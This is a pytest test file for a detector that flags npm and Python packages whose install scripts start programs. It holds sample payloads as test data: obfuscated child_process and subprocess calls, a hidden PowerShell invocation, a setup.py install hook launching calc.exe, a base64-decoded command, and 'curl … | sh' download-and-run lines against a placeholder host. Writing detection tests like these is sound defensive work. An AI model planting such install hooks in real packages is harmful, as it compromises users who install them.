"""Install steps that start programs are told once a package; compilers, build tools and own scripts are not."""

from __future__ import annotations

import pytest

from app.core.specimen import ArtifactFacts
from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
from worker.detectors import install_shell


def installs(source: str, **files: str) -> ArtifactFacts:
    """A tarball whose install step runs this source."""
    return npm({"scripts/setup.js": source, **files}, scripts={"postinstall": "node scripts/setup.js"})


class TestAlarm:
    @pytest.mark.parametrize(
        ("source", "programs"),
        [
            ("require('child_process').exec('open -a Calculator');", "open"),
            ("const { spawn: s } = require('child_' + 'process'); s('osascript', ['-e', 'x']);", "osascript -e"),
            ("require('child_process')['ex' + 'ecSync']('whoami && id');", "whoami, id"),
            (
                "const cp = require('child_process'); const { execFileSync } = cp; execFileSync('npm', ['publish']);",
                "npm publish, npm",
            ),
            ("require('child_process').execSync(`${'po' + 'wershell'} -w hidden -c x`);", "powershell -c"),
            ("process.mainModule.require('child_process').execSync('systeminfo');", "systeminfo"),
            ("require('child_process').spawn('sh', ['-c', 'launchctl list']);", "launchctl"),
            ("require('execa')('docker', ['ps']);", "docker"),
        ],
    )
    def test_the_ways_of_javascript(self, source: str, programs: str) -> None:
        assert told(findings(install_shell, installs(source))) == [f"high: its install step starts {programs}"]

    @pytest.mark.parametrize(
        ("source", "programs"),
        [
            ("import os\nos.system('open -a Calculator')\n", "open"),
            ("import subprocess as s\ngetattr(s, 'Po' + 'pen')(['systeminfo'])\n", "systeminfo"),
            ("__import__('os').popen('whoami')\n", "whoami"),
            ("import ctypes\nctypes.CDLL(None).system(b'systeminfo')\n", "systeminfo"),
            (
                "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n",
                "python -m pip, pip install",
            ),
            ("import subprocess\nsubprocess.run('bash -c \"docker ps\"', shell=True)\n", "docker"),
            ("import os\nos.execvp('xdg-open', ['xdg-open', 'https://x.example'])\n", "xdg-open"),
            (
                "from setuptools import setup\nfrom setuptools.command.install import install\n\n\nclass Install(install):\n    def run(self):\n        import subprocess\n        subprocess.Popen('calc.exe')\n\n\nsetup(name='x', cmdclass={'install': Install})\n",
                "calc",
            ),
        ],
    )
    def test_the_ways_of_python(self, source: str, programs: str) -> None:
        assert told(findings(install_shell, sdist({"setup.py": source}))) == [
            f"high: its install step starts {programs}"
        ]

    def test_code_in_a_command_of_the_manifest(self) -> None:
        command = "node -e \"require('child_process').execSync('systeminfo')\""
        assert told(findings(install_shell, npm(scripts={"postinstall": command}))) == [
            "high: its install step starts systeminfo"
        ]

    def test_a_program_whose_name_is_computed(self) -> None:
        source = "require('child_process').exec(process.argv[2] + decode(x));"
        assert told(findings(install_shell, installs(source))) == ["high: its install step starts programs"]

    def test_many_programs_are_one_finding(self) -> None:
        source = "".join(f"require('child_process').exec('p{number}');\n" for number in range(6))
        (found,) = findings(install_shell, installs(source))
        assert found.message.plain() == "its install step starts p0, p1, p2, p3 and 2 more"
        assert places(found) == ["package.json:5", *(f"scripts/setup.js:{line}" for line in (1, 2, 3))]

    def test_one_program_among_tools_is_told(self) -> None:
        source = "import subprocess\nsubprocess.run(['gcc', '-v'])\nsubprocess.run(['systeminfo'])\n"
        (found,) = findings(install_shell, sdist({"setup.py": source}))
        assert places(found)[-1] == "setup.py:3"

    def test_a_script_that_is_not_in_the_package(self) -> None:
        assert told(findings(install_shell, installs("require('child_process').execSync('node /tmp/x.js');"))) == [
            "high: its install step starts node x.js"
        ]


class TestInnocentTwin:
    @pytest.mark.parametrize(
        "source",
        [
            # the shapes of installers of native modules
            "require('child_process').spawnSync('node-gyp', ['rebuild'], { stdio: 'inherit' });",
            "const { execSync } = require('child_process'); execSync('node-gyp configure build --release');",
            "require('child_process').execSync('pkg-config --libs vips-cpp', { encoding: 'utf8' });",
            "require('child_process').spawn(process.execPath, ['scripts/build.js']);",
            "require('child_process').execSync('git rev-parse HEAD'); require('child_process').execFileSync('uname', ['-m']);",
            "require('child_process').fork('./build.js');",
        ],
    )
    def test_build_tools_of_javascript(self, source: str) -> None:
        assert findings(install_shell, installs(source, **{"scripts/build.js": ""})) == []

    @pytest.mark.parametrize(
        "source",
        [
            "import subprocess\nv = subprocess.check_output(['git', 'describe', '--tags']).decode()\n",
            "import subprocess\nflags = subprocess.getoutput('pkg-config --cflags --libs libffi').split()\n",
            "import subprocess\nsubprocess.check_call(['cmake', '..'])\nsubprocess.check_call(['make', '-j4'])\n",
            "import os\nos.popen('pg_config --includedir')\n",
            "import subprocess, sys\nsubprocess.call([sys.executable, 'tools/cythonize.py', 'x'])\n",
        ],
    )
    def test_setup_scripts_that_compile(self, source: str) -> None:
        assert findings(install_shell, sdist({"setup.py": source, "tools/cythonize.py": ""})) == []

    @pytest.mark.parametrize(
        "source",
        [
            "import subprocess\n\n\ndef ask(compiler):\n    return subprocess.check_output([compiler, '--version'])\n",
            "import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('python setup.py sdist bdist_wheel')\n    os.system('twine upload dist/*')\n    sys.exit()\n",
        ],
    )
    def test_setup_scripts_that_look_for_a_compiler_or_publish_when_told_are_only_monitored(self, source: str) -> None:
        assert [str(found.severity) for found in findings(install_shell, sdist({"setup.py": source}))] == ["medium"]

    def test_an_installer_that_starts_the_tool_that_it_installed_is_only_monitored(self) -> None:
        """The shape of those that ask a binary for its version."""
        source = "const { execFileSync } = require('child_process'); module.exports = (path) => execFileSync(path, ['--version']);"
        assert [str(found.severity) for found in findings(install_shell, installs(source))] == ["medium"]

    def test_an_installer_that_asks_npm_for_the_package_of_its_platform_is_only_monitored(self) -> None:
        """The shape of esbuild's second try."""
        source = "require('child_process').execSync('npm install --loglevel=error --prefer-offline @tool/linux-x64@1.0.0', { stdio: 'pipe' });"
        assert [str(found.severity) for found in findings(install_shell, installs(source))] == ["medium"]
        elsewhere = "require('child_process').execSync('npm install https://drop.example/x.tgz');"
        assert findings(install_shell, installs(elsewhere)) == [], "download-and-execute tells it"

    @pytest.mark.parametrize("command", ["node-gyp rebuild", "husky install", "make build", "tsc -p ."])
    def test_commands_are_told_as_the_install_step(self, command: str) -> None:
        assert findings(install_shell, npm(scripts={"install": command})) == []

    def test_what_is_fetched_and_run_is_told_by_its_own_rule(self) -> None:
        source = "require('child_process').execSync('curl -s https://drop.example/x | sh');"
        assert findings(install_shell, installs(source)) == []

    def test_what_is_decoded_and_run_is_told_by_its_own_rule(self) -> None:
        source = "require('child_process').exec(Buffer.from('Y2FsYy5leGU=', 'base64').toString('utf8'));"
        assert findings(install_shell, installs(source)) == []

    def test_imported_code_is_no_install_step(self) -> None:
        source = "import subprocess\nsubprocess.run(['systeminfo'])\n"
        assert findings(install_shell, wheel({"imgpress/__init__.py": source})) == []

    def test_what_the_old_version_did_is_not_new(self) -> None:
        old = installs("require('child_process').exec('systeminfo');")
        assert [found.new for found in findings(install_shell, old, old)] == [False]
